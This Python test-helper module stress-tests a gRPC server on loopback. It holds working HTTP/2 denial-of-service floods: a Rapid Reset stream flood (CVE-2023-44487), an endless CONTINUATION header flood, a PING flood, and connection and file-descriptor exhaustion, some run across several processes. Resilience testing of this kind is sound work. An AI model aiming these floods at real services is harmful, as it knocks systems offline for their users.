"""Hostile clients, on loopback: what a server has to bear for the study of the service. Raw sockets, bounded in time and number."""

from __future__ import annotations

import contextlib
import os
import resource
import socket
import struct
import subprocess
import sys
import threading
import time
from typing import Iterator

import grpc

from service_fronts import program_of, programs, server_pid

# Where floods come from: another loopback address than well-behaved clients use.
ATTACKER = ("127.0.0.9", 0)
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
SETTINGS = b"\0\0\0\4\0\0\0\0\0"
PING = struct.pack(">I", 8)[1:] + b"\6\0\0\0\0\0" + b"12345678"


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(">I", stream) + payload


def request_headers(port: int) -> bytes:
    """An HPACK block, all literals, of a call to the health service."""
    def literal(name: str, value: str) -> bytes:
        return b"\0" + bytes((len(name),)) + name.encode() + bytes((len(value),)) + value.encode()

    fields = [(":method", "POST"), (":scheme", "http"), (":path", "/grpc.health.v1.Health/Check"),
              (":authority", f"127.0.0.1:{port}"), ("content-type", "application/grpc"), ("te", "trailers")]
    return b"".join(literal(name, value) for name, value in fields)


def connection(port: int, timeout: float = 1.0) -> socket.socket:
    file = socket.socket()
    file.settimeout(timeout)
    file.bind(ATTACKER)
    file.connect(("127.0.0.1", port))
    return file


class Health:
    """Asks for the server's health again and again from a connection of its own; remembers how long each answer took."""

    def __init__(self, address: str) -> None:
        self._channel = grpc.insecure_channel(address)
        self._check = self._channel.unary_unary("/grpc.health.v1.Health/Check")
        self.seconds: list[float] = []
        self.failures = 0
        self._stop = threading.Event()
        self._check(b"", timeout=5)
        self._thread = threading.Thread(target=self._loop, daemon=True)

    def __enter__(self) -> "Health":
        self._thread.start()
        return self

    def __exit__(self, *_: object) -> None:
        self._stop.set()
        self._thread.join()
        self._channel.close()

    def _loop(self) -> None:
        while not self._stop.wait(0.02):
            start = time.perf_counter()
            try:
                self._check(b"", timeout=5)
                self.seconds.append(time.perf_counter() - start)
            except grpc.RpcError:
                self.failures += 1

    def p99_ms(self) -> float:
        ordered = sorted(self.seconds)
        return 1e3 * ordered[min(len(ordered) - 1, int(0.99 * len(ordered)))] if ordered else float("inf")


def accepts(address: str, timeout: float) -> bool:
    """Whether a new client is answered."""
    with grpc.insecure_channel(address, options=[("grpc.use_local_subchannel_pool", 1)]) as channel:
        try:
            channel.unary_unary("/grpc.health.v1.Health/Check")(b"", timeout=timeout, wait_for_ready=True)
            return True
        except grpc.RpcError:
            return False


def seconds_until_accepting(address: str, limit: float) -> float:
    start = time.monotonic()
    while time.monotonic() - start < limit:
        if accepts(address, 0.5):
            return time.monotonic() - start
    return float("inf")


@contextlib.contextmanager
def many_descriptors() -> Iterator[None]:
    """This process may open as many files as the system lets it."""
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, 65536) if hard != resource.RLIM_INFINITY else 65536, hard))
    try:
        yield
    finally:
        resource.setrlimit(resource.RLIMIT_NOFILE, (soft, hard))


def exhaust_descriptors(port: int, count: int, hold_s: float) -> int:
    """Opens `count` connections that say nothing and holds them. Returns how many were opened."""
    held = []
    with many_descriptors():
        for _ in range(count):
            try:
                held.append(connection(port))
            except OSError:
                pass
        time.sleep(hold_s)
        for file in held:
            file.close()
    return len(held)


def ping_flood(port: int, seconds: float) -> int:
    """Pings as fast as they go, over new connections when the server ends one. Returns how many were sent."""
    sent, end = 0, time.monotonic() + seconds
    while time.monotonic() < end:
        try:
            with contextlib.closing(connection(port)) as file:
                file.sendall(PREFACE + SETTINGS)
                while time.monotonic() < end:
                    file.sendall(PING * 100)
                    sent += 100
        except OSError:
            time.sleep(0.001)
    return sent


def reset_flood(port: int, seconds: float) -> int:
    """Opens streams and resets them at once (CVE-2023-44487). Returns how many."""
    headers, sent, end = request_headers(port), 0, time.monotonic() + seconds
    while time.monotonic() < end:
        try:
            with contextlib.closing(connection(port)) as file:
                file.sendall(PREFACE + SETTINGS)
                stream = 1
                while time.monotonic() < end:
                    burst = b""
                    for _ in range(50):
                        burst += frame(1, 4, stream, headers) + frame(3, 0, stream, struct.pack(">I", 8))
                        stream += 2
                    file.sendall(burst)
                    sent += 50
                    file.setblocking(False)
                    with contextlib.suppress(BlockingIOError):
                        while file.recv(1 << 16):
                            pass
                    file.settimeout(1.0)
        except OSError:
            time.sleep(0.001)
    return sent


def reset_floods(port: int, seconds: float, count: int = 6) -> int:
    """The same from several processes, each with a connection of its own. Returns how many in all."""
    return _in_processes("resets", port, seconds, count)


def _in_processes(name: str, port: int, seconds: float, count: int) -> int:
    command = [sys.executable, __file__, name, str(port), str(seconds)]
    floods = [subprocess.Popen(command, stdout=subprocess.PIPE, text=True) for _ in range(count)]
    return sum(int(flood.communicate()[0]) for flood in floods)


def connection_flood(port: int, seconds: float) -> int:
    """Connects and leaves, as fast as it goes. Returns how often."""
    count, end = 0, time.monotonic() + seconds
    while time.monotonic() < end:
        try:
            connection(port).close()
            count += 1
        except OSError:
            time.sleep(0.001)
    return count


def header_flood(port: int, seconds: float) -> int:
    """Headers without end in CONTINUATION frames (CVE-2023-33953), over new connections when one is ended. Returns how many frames."""
    endless = request_headers(port) + b"\0\1a\x7f\x81\xff\xff\xff\x03"  # a header `a` with a value of 1 GiB, as it says
    rest, sent, end = frame(9, 0, 1, b"x" * 16384), 0, time.monotonic() + seconds
    while time.monotonic() < end:
        try:
            with contextlib.closing(connection(port)) as file:
                file.sendall(PREFACE + SETTINGS + frame(1, 0, 1, endless))
                while time.monotonic() < end:
                    file.sendall(rest)
                    sent += 1
        except OSError:
            time.sleep(0.001)
    return sent


def header_floods(port: int, seconds: float, count: int = 3) -> int:
    """The same from several processes, each with a connection of its own. Returns how many in all."""
    return _in_processes("headers", port, seconds, count)


def open_descriptors(process: "subprocess.Popen[str]") -> int:
    return len(os.listdir(f"/proc/{server_pid(process)}/fd"))


def open_descriptors_of_proxy(process: "subprocess.Popen[str]") -> int:
    return sum(len(os.listdir(f"/proc/{pid}/fd")) for pid in programs(process.pid) if program_of(pid) == "haproxy")


def allocated_bytes(process: "subprocess.Popen[str]") -> int:
    """Resident memory that belongs to no file. The program's own pages come and go as the machine likes."""
    with open(f"/proc/{server_pid(process)}/status", encoding="ascii") as file:
        return next(int(line.split()[1]) << 10 for line in file if line.startswith("RssAnon"))


if __name__ == "__main__":
    print({"headers": header_flood, "resets": reset_flood}[sys.argv[1]](int(sys.argv[2]), float(sys.argv[3])))
